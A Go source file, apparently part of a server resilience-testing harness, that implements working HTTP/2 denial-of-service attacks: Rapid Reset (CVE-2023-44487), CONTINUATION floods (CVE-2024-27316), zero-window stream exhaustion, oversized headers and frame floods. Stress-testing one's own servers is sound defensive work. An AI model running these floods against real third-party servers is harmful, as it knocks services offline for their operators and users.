//go:build linux

package main

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// conn2 is a connection of HTTP/2 whose frames are written one by one, right
// or wrong ones.
type conn2 struct {
	net.Conn
	*http2.Framer
	out   bytes.Buffer // what the framer wrote
	next  uint32       // stream to open
	most  uint32       // streams at once, by the server's settings
	block []byte       // a GET's header, which does not depend on those before
}

// dial2 opens a connection of HTTP/2 that has read the server's settings.
func (s *site) dial2(ctx context.Context, settings ...http2.Setting) (*conn2, error) {
	conn, err := s.dial(ctx, s.addr2)
	if err != nil {
		return nil, err
	}
	c := &conn2{Conn: conn, next: 1, most: 1 << 30, block: requestBlock(s.addr2.String(), s.path)}
	c.Framer = http2.NewFramer(&c.out, bufio.NewReader(conn))
	c.AllowIllegalWrites = true
	c.out.WriteString(http2.ClientPreface)
	c.WriteSettings(settings...)
	if err := c.flush(); err != nil {
		return nil, err
	}
	conn.SetReadDeadline(time.Now().Add(limit))
	frame, err := c.ReadFrame()
	if err != nil {
		return nil, err
	}
	conn.SetReadDeadline(time.Time{})
	theirs, ok := frame.(*http2.SettingsFrame)
	if !ok {
		return nil, fmt.Errorf("the first frame is %v: want the server's settings", frame.Header())
	}
	if most, ok := theirs.Value(http2.SettingMaxConcurrentStreams); ok {
		c.most = most
	}
	c.WriteSettingsAck()
	return c, c.flush()
}

// requestBlock returns the header block of a GET, which adds nothing to the
// table of header fields.
func requestBlock(host, path string) []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: "GET"},
		{Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: host, Sensitive: true}, // never indexed
		{Name: ":path", Value: path, Sensitive: true},
	} {
		e.WriteField(f) // to memory: no error
	}
	return block.Bytes()
}

// age is a header field, "age" without a value, in one byte: an index into
// HPACK's static table (RFC 7541, Appendix A). Of all fields there it takes the
// least of a limit on the size of a header: 35 bytes.
const age = 0x80 | 21

// largestFrame is the payload of a frame that every server takes (RFC 9113,
// section 4.2).
const largestFrame = 16 << 10

// get opens a stream that asks for the path; fields follow its own.
func (c *conn2) get(fields []byte) {
	block := append(append([]byte{}, c.block...), fields...)
	first := block[:min(len(block), largestFrame)]
	rest := block[len(first):]
	c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next, BlockFragment: first, EndStream: true, EndHeaders: len(rest) == 0})
	for len(rest) > 0 {
		part := rest[:min(len(rest), largestFrame)]
		rest = rest[len(part):]
		c.WriteContinuation(c.next, len(rest) == 0, part)
	}
	c.next += 2
}

// flush sends what the framer wrote.
func (c *conn2) flush() error {
	_, err := c.out.WriteTo(c.Conn)
	return err
}

// zeroWindow opens streams on 3 connections that may send no byte of a body, and
// reads nothing.
func zeroWindow(ctx context.Context, s *site) error {
	return s.each(ctx, 3, func(ctx context.Context, _ int) error {
		c, err := s.dial2(ctx, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			return err
		}
		return c.open(s, min(uint32(s.scale.of(10_000)), c.most), nil)
	})
}

// open opens n streams, a few with each write.
func (c *conn2) open(s *site, n uint32, fields []byte) error {
	for i := range n {
		c.get(fields)
		if c.out.Len() > 32<<10 || i == n-1 {
			if err := c.flush(); err != nil {
				return err
			}
		}
		s.sent.Add(1)
	}
	return nil
}

// manyFields has one connection send up to 1,000 requests with 29,000 header
// fields of a byte each: 1 MB by the way a header's size is counted.
func manyFields(ctx context.Context, s *site) error {
	return s.each(ctx, 1, func(ctx context.Context, _ int) error {
		c, err := s.dial2(ctx)
		if err != nil {
			return err
		}
		go drain(c.Conn)
		return c.open(s, min(uint32(s.scale.of(1000)), c.most), bytes.Repeat([]byte{age}, 29_000))
	})
}

// rapidReset opens streams and resets each at once (CVE-2023-44487), 100,000 on
// each of 4 connections, spread over the attack's time. An attacker whose
// connection is ended opens another.
func rapidReset(ctx context.Context, s *site) error {
	const each, burst = 100_000, 100
	return s.each(ctx, 4, func(ctx context.Context, _ int) error {
		bursts := s.scale.of(each) / burst
		pace := time.NewTicker(s.scale.strike / time.Duration(bursts+1))
		defer pace.Stop()
		var c *conn2
		for range bursts {
			select {
			case <-ctx.Done():
				return nil
			case <-pace.C:
			}
			if c == nil {
				var err error
				if c, err = s.dial2(ctx); err != nil {
					c = nil
					continue
				}
				go drain(c.Conn)
			}
			for range burst {
				c.get(nil)
				c.WriteRSTStream(c.next-2, http2.ErrCodeCancel)
			}
			if c.flush() != nil {
				c.Conn.Close()
				c = nil
				continue
			}
			s.sent.Add(burst)
		}
		return nil
	})
}

// fill opens streams on 10 connections, 10,000 on each or as many as it may have,
// and reads what comes.
func fill(ctx context.Context, s *site) error {
	return s.each(ctx, 10, func(ctx context.Context, _ int) error {
		c, err := s.dial2(ctx)
		if err != nil {
			return err
		}
		go drain(c.Conn)
		return c.open(s, min(10_000, c.most), nil) // at any scale: the place for them is not scaled
	})
}

// poolNames waits on 3 connections of HTTP/2 in up to 29,700 pools, each with a
// name of its own.
func poolNames(ctx context.Context, s *site) error {
	const conns = 3
	return s.each(ctx, conns, func(ctx context.Context, conn int) error {
		c, err := s.dial2(ctx)
		if err != nil {
			return err
		}
		go drain(c.Conn)
		each := min(s.scale.of(29_700/conns), int(c.most))
		for i := range each {
			path := fmt.Sprintf("/delay/600000?pool=p%d&workers=1", conn*each+i)
			c.block = requestBlock(s.addr2.String(), path)
			if err := c.open(s, 1, nil); err != nil {
				return err
			}
		}
		return nil
	})
}

// flood has 4 connections send a frame over and over, and reads nothing.
func flood(frame func(*conn2)) func(ctx context.Context, s *site) error {
	return func(ctx context.Context, s *site) error {
		return s.each(ctx, 4, func(ctx context.Context, _ int) error {
			c, err := s.dial2(ctx)
			if err != nil {
				return err
			}
			for range s.scale.of(1000) {
				for range 100 {
					frame(c)
				}
				if err := c.flush(); err != nil {
					return err
				}
				s.sent.Add(100)
			}
			return nil
		})
	}
}

// continuations sends a header that does not end (CVE-2024-27316), up to 64 MB
// of it on each of 4 connections.
func continuations(ctx context.Context, s *site) error {
	part := bytes.Repeat([]byte{age}, largestFrame)
	return s.each(ctx, 4, func(ctx context.Context, _ int) error {
		c, err := s.dial2(ctx)
		if err != nil {
			return err
		}
		c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.block, EndStream: true})
		for range s.scale.of(4000) {
			c.WriteContinuation(1, false, part)
			if err := c.flush(); err != nil {
				return err
			}
			s.sent.Add(1)
		}
		return nil
	})
}

// ended reports whether an error says that the server ended the connection.
func ended(err error) bool {
	var network *net.OpError
	return errors.Is(err, io.EOF) || errors.As(err, &network)
}
